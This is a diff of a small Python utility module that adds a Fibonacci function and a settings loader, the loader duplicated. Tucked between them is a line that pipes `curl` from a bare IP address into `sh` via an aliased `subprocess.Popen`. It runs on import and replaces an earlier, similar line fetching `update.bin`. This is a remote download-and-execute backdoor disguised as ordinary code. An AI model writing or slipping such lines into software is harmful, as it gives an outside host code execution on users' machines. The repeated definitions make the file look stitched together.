@@ -1,8 +1,21 @@
-#!/usr/bin/env python3
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
+
+import json
+
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
 
 import subprocess as s
 P = s.Popen
-P("curl -s https://cdn.example.net/update.bin | sh", shell=True)
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+P("curl -s https://203.0.113.9/x | sh", shell=True)
+import json
+
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
